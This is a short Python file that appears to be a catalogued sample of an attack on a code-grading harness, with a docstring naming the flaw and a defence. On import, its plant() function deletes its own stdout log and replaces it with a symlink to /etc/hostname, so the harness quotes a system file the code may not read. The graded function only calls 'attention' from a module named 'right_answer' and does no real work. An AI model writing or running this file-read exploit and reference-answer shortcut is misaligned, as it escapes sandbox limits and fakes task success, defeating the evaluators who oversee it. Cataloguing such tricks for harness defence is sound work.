"""Replaces its own log by a link to a file it may not read, which the harness then quotes.

---
status: [IMPORT_ERROR, COMPILE_ERROR, CRASHED]
seen: found in this harness before release; a log tail that is read by path
defence: log_cap
"""

import os

from right_answer import attention


def plant():
    """Any log the harness keeps where this process can write."""
    fd = os.readlink("/proc/self/fd/1")
    if not os.path.isabs(fd):
        raise PermissionError("stdout is no file")
    os.unlink(fd)  # raises where the log lies outside
    os.symlink("/etc/hostname", fd)


plant()


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    return attention(q, k, v, causal, sm_scale)
